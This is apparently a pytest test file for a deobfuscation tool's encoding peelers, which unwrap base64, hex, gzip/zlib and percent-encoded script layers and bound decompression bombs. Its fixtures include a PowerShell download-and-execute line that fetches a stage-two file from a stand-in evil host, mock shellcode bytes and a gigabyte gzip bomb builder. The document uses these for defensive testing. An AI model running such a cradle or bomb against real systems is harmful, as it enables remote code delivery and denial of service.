"""Encoding peelers: base64, hex, compressed streams, percent-encoding, and their bounds."""

from __future__ import annotations

import base64
import contextlib
import gzip
import struct
import time
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from wingman.core.scripts.layers import peel
from wingman.core.scripts.peelers import encoding
from wingman.core.scripts.peelers.encoding import PEELERS
from wingman.core.scripts.peelers.encoding_bytes import binary_strings, inflate, recover
from wingman.core.scripts.types import Budget, BudgetExceeded, Decoded, Lang

URL = "http://evil.example.com/stage2.bin"
SCRIPT = f"IEX (New-Object Net.WebClient).DownloadString('{URL}')"
# Printable runs of 6+ bytes hide inside bytes that are not text.
SHELLCODE = bytes(range(0x80, 0x100)) * 2 + b"\xfc\xe8\x82\x00" + URL.encode() + b"\x00\x90\x90"
SHELLCODE += "C:\\Users\\Public\\a.exe".encode("utf-16-le") + b"\x00\x00" + bytes(range(0x80, 0xC0))


def budget(**bounds: int) -> Budget:
    return Budget(deadline=time.monotonic() + 60, **bounds)


def run(name: str, text: str, **bounds: int) -> list[Decoded]:
    found = PEELERS[name].run(text, budget(**bounds))
    for decoded in found:
        assert 0 <= decoded.start <= decoded.end <= len(text)
        assert decoded.language is None
    return found


def only(name: str, text: str) -> Decoded:
    found = run(name, text)
    assert len(found) == 1, found
    return found[0]


def raw_deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def gzip_bomb(gigabytes: int = 1) -> bytes:
    """A gzip member whose deflate body inflates to `gigabytes` GiB of 'A' (about 1 MB)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = compressor.compress(b"A" * 2**20) + compressor.flush(zlib.Z_FULL_FLUSH)
    body = segment * (1024 * gigabytes) + compressor.flush()
    # The trailer's CRC is never reached: inflating stops long before.
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + body + struct.pack("<II", 0, 0)


@pytest.mark.parametrize(
    ("blob", "technique"),
    [
        (base64.b64encode(SCRIPT.encode()).decode(), "base64"),
        (base64.b64encode(SCRIPT.encode("utf-16-le")).decode(), "base64"),
        (base64.b64encode(b"\xff\xfe" + SCRIPT.encode("utf-16-le")).decode(), "base64"),
        (base64.urlsafe_b64encode(("~~?" + SCRIPT).encode()).decode(), "base64"),
        (base64.b64encode(SCRIPT.encode()).decode().rstrip("="), "base64"),
        (base64.b64encode(gzip.compress(SCRIPT.encode())).decode(), "base64+gzip"),
        (base64.b64encode(zlib.compress(SCRIPT.encode())).decode(), "base64+zlib"),
        (base64.b64encode(raw_deflate(SCRIPT.encode())).decode(), "base64+deflate"),
        (base64.b64encode(SHELLCODE).decode(), "binary_strings"),
    ],
)
def test_base64_decodes(blob: str, technique: str) -> None:
    text = f"$payload = '{blob}'\n"
    found = only("base64", text)
    assert found.technique == technique
    assert URL in found.content
    assert text[found.start : found.end] == blob
    if technique != "binary_strings":
        assert found.content.lstrip("~?") == SCRIPT


def test_binary_strings_keep_ascii_and_utf16_runs() -> None:
    strings = binary_strings(SHELLCODE, budget())
    assert strings is not None
    assert strings.splitlines()[-1:] == ["C:\\Users\\Public\\a.exe"]
    assert URL in strings.splitlines()


def test_base64_wrapped_lines_are_one_blob() -> None:
    wrapped = base64.encodebytes((SCRIPT * 3).encode()).decode()
    text = f"-----BEGIN DATA-----\n{wrapped}-----END DATA-----\nexit\n"
    assert only("base64", text).content == SCRIPT * 3


def test_base64_wrapped_lines_do_not_swallow_a_word() -> None:
    wrapped = base64.encodebytes((SCRIPT * 3).encode()).decode()
    assert only("base64", wrapped + "exit\n").content == SCRIPT * 3


@pytest.mark.parametrize(
    "text",
    [
        "short: SGVsbG8gd29ybGQ=",
        "Get-AzureRmVirtualNetworkGatewayConnectionSharedKey -Name x",
        "C:/Windows/System32/WindowsPowerShell/v1.0/powershell.exe/aaaaaaaaaaaaaaaaaaaaaaaaa",
        "ThisIsAVeryLongIdentifierNameWithoutDigits = 1",
        "abc+def/ghi-jkl_mnoABCDEFGHIJKLMNOP",
        "d41d8cd98f00b204e9800998ecf8427e00000000",
        base64.b64encode(bytes(range(256))[:60]).decode(),
        "powershell -enc " + base64.b64encode(SCRIPT.encode("utf-16-le")).decode(),
        "[Convert]::FromBase64String('" + base64.b64encode(SCRIPT.encode()).decode() + "')",
    ],
)
def test_base64_negative(text: str) -> None:
    assert run("base64", text) == []


@pytest.mark.parametrize(
    "blob",
    [
        "QUJD" * 10 + "Q",
        "////" * 12,
        base64.b64encode(gzip.compress(SCRIPT.encode())[:12]).decode(),
        base64.b64encode(b"\x1f\x8b\x08" + bytes(60)).decode(),
        base64.b64encode(b"x\x9c" + bytes(range(200, 256))).decode(),
        "A" * 100_000,
    ],
)
def test_base64_malformed_is_not_an_error(blob: str) -> None:
    for found in run("base64", f"x = '{blob}'"):
        assert found.content


def test_truncated_gzip_gives_what_inflated() -> None:
    lines = "".join(f"Write-Host {index * 7919 % 10007} {URL}\n" for index in range(200))
    stream = gzip.compress(lines.encode())
    found = only("base64", base64.b64encode(stream[: len(stream) // 2]).decode())
    assert found.technique == "base64+gzip"
    assert lines.startswith(found.content)
    assert URL in found.content


@pytest.mark.parametrize(
    "text",
    [
        SCRIPT.encode().hex(),
        SCRIPT.encode().hex().upper(),
        "".join(f"\\x{byte:02x}" for byte in SCRIPT.encode()),
        "$b = " + ", ".join(f"0x{byte:02X}" for byte in SCRIPT.encode()),
        gzip.compress(SCRIPT.encode()).hex(),
    ],
)
def test_hex_decodes(text: str) -> None:
    found = only("hex", text)
    assert found.content == SCRIPT
    assert found.technique in ("hex", "hex+gzip")


def test_hex_shellcode_gives_strings() -> None:
    text = 'buf = b"' + "".join(f"\\x{byte:02x}" for byte in SHELLCODE) + '"'
    found = only("hex", text)
    assert found.technique == "binary_strings"
    assert URL in found.content.splitlines()


@pytest.mark.parametrize(
    "text",
    [
        SCRIPT.encode().hex()[:31],
        SCRIPT.encode().hex() + "a",
        "d41d8cd98f00b204e9800998ecf8427e",
        "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "\\x41\\x42\\x43",
        "0x41, 0x42, 0x43",
        "0x" + "41" * 40,
    ],
)
def test_hex_negative(text: str) -> None:
    assert run("hex", text) == []


def test_gzip_stream_carried_as_latin1() -> None:
    stream = gzip.compress(SCRIPT.encode()).decode("latin-1")
    found = only("gzip", "data:" + stream + "\u2603 tail")
    assert found.technique == "gzip"
    assert found.content == SCRIPT
    assert found.start == len("data:")


def test_zlib_stream_carried_as_latin1() -> None:
    assert only("gzip", zlib.compress(SCRIPT.encode()).decode("latin-1")).content == SCRIPT


@pytest.mark.parametrize("text", ["x\x9c not zlib", "\x1f\x8b\x08 nope", "plain text"])
def test_gzip_negative(text: str) -> None:
    assert run("gzip", text) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("u=http%3A%2F%2Fevil.example.com%2Fstage2.bin", f"u={URL}"),
        ("%68%74%74%70%3a%2f%2fevil.example.com", "http://evil.example.com"),
        ("unescape('%u0068%u0074%u0074%u0070%u003a')", "unescape('http:')"),
    ],
)
def test_percent_decodes(text: str, expected: str) -> None:
    assert only("percent", text).content == expected


def test_percent_unicode_escapes_alone_are_bytes() -> None:
    data = SHELLCODE + b"\x00" * (len(SHELLCODE) % 2)
    units = struct.unpack(f"<{len(data) // 2}H", data)
    found = only("percent", "".join(f"%u{unit:04x}" for unit in units))
    assert URL in found.content.splitlines()


@pytest.mark.parametrize(
    "text",
    ["C:\\Program%20Files%20(x86)%20App", "%PATH%;%TEMP%;%APPDATA%", "100% sure, 50%", "%zz%yy%xx"],
)
def test_percent_negative(text: str) -> None:
    assert run("percent", text) == []


def test_inflate_stops_a_gigabyte_bomb_at_the_layer_bound() -> None:
    bomb = gzip_bomb()
    out = inflate(bomb, "gzip", budget())
    assert out is not None
    assert len(out) == Budget(deadline=0).max_layer_chars


def test_inflate_stops_a_bomb_at_the_ratio_bound() -> None:
    bomb = gzip_bomb()
    bounds = budget(max_layer_chars=2**40, max_inflate_ratio=3)
    out = inflate(bomb, "gzip", bounds)
    assert out is not None
    assert len(out) == 3 * len(bomb)


def test_base64_bomb_is_cut_off() -> None:
    text = "$d = '" + base64.b64encode(gzip_bomb()).decode() + "'"
    found = only("base64", text)
    assert found.technique == "base64+gzip"
    assert len(found.content) == Budget(deadline=0).max_layer_chars


def test_inflate_rejects_garbage_and_checks_the_clock() -> None:
    assert inflate(b"\x1f\x8b\x08garbage", "gzip", budget()) is None
    with pytest.raises(BudgetExceeded):
        inflate(gzip.compress(b"x"), "gzip", Budget(deadline=time.monotonic() - 1))


def test_recover_refuses_binary_unless_allowed() -> None:
    assert recover(SHELLCODE, budget(), binary_ok=False) is None
    assert recover(SHELLCODE, budget(), binary_ok=True) is not None


LONG_LINES = [
    "A" * 100_000,
    "4" * 100_000,
    "%4" * 50_000,
    "\\x4" * 33_000,
    "0x41," * 20_000,
    "ab/" * 33_000,
    "x\x9c" * 50_000,
    "QUJD" * 24_999 + "!" + "QUJD" * 10,
]


@pytest.mark.parametrize("line", LONG_LINES, ids=range(len(LONG_LINES)))
def test_long_lines_are_handled(line: str) -> None:
    for name in PEELERS:
        assert isinstance(run(name, line), list)


def test_nested_base64_peels_to_the_bottom() -> None:
    text = SCRIPT
    for _ in range(12):
        text = base64.b64encode(text.encode()).decode()
    layers, stopped = peel(text, Lang.BASH, peelers=PEELERS, budget=budget())
    assert stopped is None
    assert [layer.technique for layer in layers] == ["input"] + ["base64"] * 12
    assert layers[-1].content == SCRIPT


def test_nested_layers_stop_at_the_layer_bound() -> None:
    text = SCRIPT
    for _ in range(12):
        text = base64.b64encode(text.encode()).decode()
    layers, stopped = peel(text, Lang.BASH, peelers=PEELERS, budget=budget(max_layers=5))
    assert len(layers) == 5
    assert stopped is not None


def test_every_peeler_is_registered_under_its_name() -> None:
    assert set(encoding.PEELERS) == {"base64", "hex", "gzip", "percent"}
    for name, peeler in encoding.PEELERS.items():
        assert peeler.name == name
        assert peeler.kind == "extract"
        assert peeler.languages is None


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.text(
        alphabet=st.one_of(
            st.characters(),
            st.sampled_from(list("AQgw=+/-_%\\x0123456789abcdef,\n\x1f\x8b\x08\x9c")),
        ),
        max_size=400,
    )
)
def test_arbitrary_text_never_raises(text: str) -> None:
    for name in PEELERS:
        with contextlib.suppress(BudgetExceeded):
            run(name, text)
